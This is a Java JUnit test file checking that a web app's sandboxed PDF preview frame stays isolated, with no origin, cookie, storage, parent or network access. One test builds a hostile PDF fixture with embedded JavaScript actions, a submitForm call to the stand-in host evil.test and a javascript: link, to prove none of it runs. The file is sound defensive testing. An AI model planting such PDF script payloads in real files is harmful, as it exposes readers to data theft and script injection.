package tranzr.web;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;

/** How the page of a link shows a PDF: drawn in a frame that has no origin. */
class PdfPreviewTest extends ServedPages {

    private static final String FRAME = "#preview-0 iframe";
    private static final String TO_SEE = "{\"protected\": false, \"max_downloads\": null}";

    private void preview(byte[] file, String terms) {
        String id = server.post("/upload/start", "{\"filename\": \"plan.pdf\", \"file_size\": " + file.length + "}", AS_OPERATOR).expect(201).field("file_id");
        server.put("/upload/" + id, file, AS_OPERATOR).expect(200);
        open("/s/" + server.post("/share/create/" + id, terms, AS_OPERATOR).expect(201).field("token"));
        if (terms.contains("password")) {
            browser.type("#password", "right");
        }
        browser.click("button[data-preview]");
    }

    /** The colour of the picture of a page at that part of its width and height; -1 before it is drawn. */
    private int colour(int page, double x, double y) {
        return ((Number) browser.script("const c = document.querySelectorAll('canvas')[arguments[0] - 1];"
                + "if (!c || c.nextElementSibling.textContent === '') { return -1; }"
                + "const [r, g, b] = c.getContext('2d').getImageData(c.width * arguments[1], c.height * arguments[2], 1, 1).data; return r << 16 | g << 8 | b", page, x, y)).intValue();
    }

    /** What the frame did against its policy since it was opened; the browser's console does not tell. */
    private List<?> violations() {
        return (List<?>) browser.script("const o = new ReportingObserver(() => {}, {types: ['csp-violation'], buffered: true}); o.observe();"
                + "const all = o.takeRecords().map(report => report.body.effectiveDirective); o.disconnect(); return all");
    }

    @Test
    void itsPagesAreDrawnWhereNothingOfThisSiteIsInReach() {
        preview(PdfFile.of("", "", "The first page", "The second page", "The third page"), TO_SEE);
        browser.untilText("#preview-0", "3 pages");
        browser.assertAccessible();
        browser.inFrame(FRAME, () -> {
            browser.until("to see the page drawn", () -> colour(1, 0.3, 0.65) == 0x1A6659);
            assertEquals(0xFFFFFF, colour(1, 0.9, 0.9));
            assertEquals("Page 1 of 3", browser.script("return document.querySelector('figure').ariaLabel"));
            browser.until("for the text of the page", () -> browser.property("figure:nth-of-type(2) p", "textContent").equals("The second page"));
            assertEquals("null", browser.script("return self.origin"));
            assertEquals("SecurityError", browser.script("try { return document.cookie; } catch (e) { return e.name; }"));
            assertEquals("SecurityError", browser.script("try { return parent.document.title; } catch (e) { return e.name; }"));
            assertEquals("SecurityError", browser.script("try { return localStorage.length; } catch (e) { return e.name; }"));
        });
        assertEquals(0, ((Number) server.get("/shares", AS_OPERATOR).list().getFirst().get("downloads")).intValue());
        browser.click("button[data-preview]");
        assertEquals(0, browser.count(FRAME));
    }

    @Test
    void theFrameReachesNoNetworkNotEvenThisServer() {
        preview(PdfFile.of("", "", "Alone"), TO_SEE);
        browser.untilText("#preview-0", "1 page");
        browser.inFrame(FRAME, () -> {
            browser.until("to see the page drawn", () -> colour(1, 0.3, 0.65) == 0x1A6659);
            assertEquals(List.of(), violations());
            assertEquals("TypeError", browser.script("return fetch('/health', {mode: 'no-cors'}).then(() => 'through', e => e.name)"));
            assertEquals(List.of("connect-src"), violations());
        });
    }

    @Test
    void whatTheFrameIsHandedComesFromThePageAroundItAlone() {
        preview(PdfFile.of("", "", "Right"), TO_SEE);
        browser.untilText("#preview-0", "1 page");
        // A window of nobody's, to both sides: neither the page nor the frame heeds it.
        browser.script("const f = document.createElement('iframe'); f.id = 'other'; f.sandbox = 'allow-scripts'; f.src = arguments[0]; document.body.append(f); return 0", server.url() + "/pdf-viewer");
        browser.inFrame("#other", () -> browser.script("parent.postMessage({kind: 'shown', pages: 99}, '*'); parent.frames[0].postMessage({bytes: new ArrayBuffer(9)}, '*'); return 0"));
        browser.inFrame(FRAME, () -> browser.until("to see the page drawn", () -> colour(1, 0.3, 0.65) == 0x1A6659));
        assertEquals("1 page", browser.text("#preview-0 [role=status]"));
    }

    @Test
    void aPasswordOpensItByTheGrantAlone() {
        preview(PdfFile.of("", "", "Secret"), "{\"password\": \"right\", \"max_downloads\": null}");
        browser.untilText("#preview-0", "1 page");
        assertFalse(browser.requested().keySet().stream().anyMatch(url -> url.contains("right")));
    }

    @Test
    void whatAScannerMadeIsSeen() {
        preview(PdfFile.scanned(), TO_SEE);
        browser.untilText("#preview-0", "1 page");
        browser.inFrame(FRAME, () -> {
            browser.until("to see the picture", () -> colour(1, 0.3, 0.65) == 0);
            assertEquals(List.of(), violations());
            assertEquals(0xFFFFFF, colour(1, 0.9, 0.9));
        });
    }

    @Test
    void nothingThatTheFileHoldsRuns() {
        String script = "/S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('http://evil.test/'\\); parent.document.title = 'taken')";
        String link = "<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /URI /URI (javascript:alert\\(2\\)) >> >>";
        String field = "<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (alert) /Rect [10 10 90 30] /AA << /Fo << " + script + " >> >> >>";
        preview(PdfFile.of("/OpenAction << " + script + " >> /AA << /WC << " + script + " >> >>", "/AA << /O << " + script + " >> >> /Annots [" + link + field + "]", "Hostile"), TO_SEE);
        browser.untilText("#preview-0", "1 page");
        browser.inFrame(FRAME, () -> {
            browser.until("to see the page drawn", () -> colour(1, 0.3, 0.65) == 0x1A6659);
            assertEquals(0, browser.count("a, input, iframe, form"));
            assertEquals(List.of(), violations());
        });
        browser.inFrame(FRAME, () -> browser.click("figure"));
        assertTrue(browser.title().startsWith("plan.pdf"), browser.title());
        assertEquals(1, browser.count(FRAME));
    }

    @Test
    void aBrokenOneIsSaidToBeSo() {
        byte[] whole = PdfFile.of("", "", "Broken");
        preview(Arrays.copyOf(whole, 30), TO_SEE);
        browser.untilText("#preview-0", "This PDF is damaged");
        assertEquals(0, browser.count(FRAME));
        preview("%PDF-1.4 and nothing else".getBytes(StandardCharsets.US_ASCII), TO_SEE);
        browser.untilText("#preview-0", "This PDF is damaged");
    }

    @Test
    void oneThatAsksForItsOwnPasswordIsSaidToBeSo() {
        preview(PdfFile.locked(), TO_SEE);
        browser.untilText("#preview-0", "a password of its own");
        assertEquals(0, browser.count(FRAME));
    }

    @Test
    void aLongOneIsShownByItsFirstPages() {
        String[] pages = new String[60];
        Arrays.setAll(pages, i -> "Page " + (i + 1));
        preview(PdfFile.of("", "", pages), TO_SEE);
        browser.untilText("#preview-0", "60 pages");
        browser.inFrame(FRAME, () -> {
            assertEquals(50, browser.count("figure"));
            browser.untilText("main > p", "The first 50 of 60 pages");
            browser.until("to see the page drawn", () -> colour(1, 0.3, 0.65) == 0x1A6659);
            assertEquals(-1, colour(50, 0.3, 0.65));
            browser.script("document.querySelector('main').scrollTop = 1e6");
            browser.until("to see the last page drawn", () -> colour(50, 0.3, 0.65) == 0x1A6659);
            browser.until("to be rid of the first", () -> ((Number) browser.property("figure:nth-of-type(1) canvas", "width")).intValue() == 0);
        });
    }

    @Test
    void theFrameHasNothingToShowByItselfAndNoOrigin() {
        open("/pdf-viewer");
        browser.untilText("main", "By itself this page has nothing to show");
        assertEquals("null", browser.script("return self.origin"));
        browser.assertAccessible();
    }
}
